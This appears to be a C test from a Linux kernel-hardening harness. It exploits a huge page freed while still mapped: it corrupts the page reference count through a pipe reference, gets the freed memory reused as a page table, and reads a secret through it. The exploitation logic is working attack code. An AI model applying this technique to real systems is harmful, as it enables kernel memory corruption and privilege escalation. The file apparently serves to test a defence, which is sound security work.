// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of memory that becomes a page table while it is still mapped:
 * whether anybody uses a page is said by a count in struct page.
 */
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define HUGE_PART	0x5a
#define TABLES_PART	0x5b
#define TABLES		6144
#define OTHERS		128
#define HEAD_PAGES	3	/* of a huge page, that say what it is */

struct freed {
	volatile char *at;
	uint64_t phys, page;
	char as_huge[HEAD_PAGES * STRUCT_PAGE];
};

static bool make_huge(struct freed *freed)
{
	struct slot slot;

	freed->at = mmap((void *)user_room(HUGE_PART), PMD_SIZE, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (freed->at == MAP_FAILED)
		return false;
	madvise((void *)freed->at, PMD_SIZE, MADV_HUGEPAGE);
	madvise((void *)freed->at, PMD_SIZE, MADV_DONTFORK);
	freed->at[0] = 1;
	if (kwalk((uint64_t)freed->at, LEAF, 0, &slot) || slot.level != LEVEL_PMD)
		return false;
	freed->phys = slot.phys;
	freed->page = slot.page;
	return true;
}

/* A CPU keeps some of what it frees: let that be others. */
static void free_others(void)
{
	char *others = mmap(NULL, (OTHERS + 1) * PMD_SIZE, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	int i;

	madvise(others, (OTHERS + 1) * PMD_SIZE, MADV_HUGEPAGE);
	for (i = 0; i < OTHERS; i++)
		others[i * PMD_SIZE] = 1;
	munmap(others, (OTHERS + 1) * PMD_SIZE);
}

/* Without a pool a table is any single page: one of ours is the next. */
static bool free_single_page(const struct freed *freed)
{
	uint64_t addr = direct_map_base() + freed->phys;
	int order = __builtin_ctzl(PMD_SIZE / PAGE_SIZE);

	free_others();
	do {
		if (corrupt_command("alloc order=%d", order))
			return false;
	} while (corrupt_answer("address") != addr);
	return !corrupt_command("split addr=0x%lx", addr) && !corrupt_command("free count=1");
}

/* A pipe has a reference, too; it drops what is taken for the last one. */
static int free_while_mapped(struct freed *freed)
{
	struct iovec part = { (void *)freed->at, PAGE_SIZE };
	int fds[2], err;

	if (pipe(fds) || vmsplice(fds[1], &part, 1, 0) != (ssize_t)PAGE_SIZE)
		return -1;
	err = kread(freed->page, freed->as_huge, sizeof(freed->as_huge));
	err = err ?: add_reference(freed->page, -1);
	close(fds[0]);
	close(fds[1]);
	return err;
}

static bool wait_for_table(const struct freed *freed, volatile char *base, struct window *window)
{
	struct slot slot;
	int i;

	for (i = 1; i < TABLES; i++) {
		(void)base[i * PMD_SIZE];
		if (!window_open_behind(window, base + i * PMD_SIZE) ||
		    kwalk(window->slot, LEAF, 0, &slot))
			return false;
		if (slot.phys - freed->phys < PMD_SIZE)
			return true;
	}
	return false;
}

/* For as long as it is unmapped the memory is what it was, with a reference more. */
static void unmap(struct freed *freed)
{
	char as_tables[sizeof(freed->as_huge)];

	kread(freed->page, as_tables, sizeof(as_tables));
	kwrite(freed->page, freed->as_huge, sizeof(freed->as_huge));
	munmap((void *)freed->at, PMD_SIZE);
	kwrite(freed->page, as_tables, sizeof(as_tables));
}

static enum outcome use_table(struct freed *freed, volatile char *base, int err)
{
	struct window window;
	struct slot slot;
	char text[64];

	if (!is_protected() && !free_single_page(freed))
		return broken("the huge page was not freed");
	if (err || !wait_for_table(freed, base, &window))
		return lost("the stores gave %d; none of %d tables is in memory of ours", err, TABLES);
	kwalk(window.slot, LEAF, 0, &slot);
	take_secret_in(freed->at + ((slot.phys - freed->phys) & -PAGE_SIZE), &window, text, sizeof(text));
	return judge_secret(text, err);
}

enum outcome huge_page_count(void)
{
	volatile char *base = sparse_region(user_room(TABLES_PART), TABLES, PROT_READ);
	enum outcome outcome;
	struct freed freed;

	stay_on_cpu(0);
	if (!base || !make_huge(&freed))
		return broken("no huge page");
	(void)base[0];
	if (is_protected())
		use_up_blocks();
	outcome = use_table(&freed, base, free_while_mapped(&freed));
	unmap(&freed);
	corrupt_command("free");
	return outcome;
}
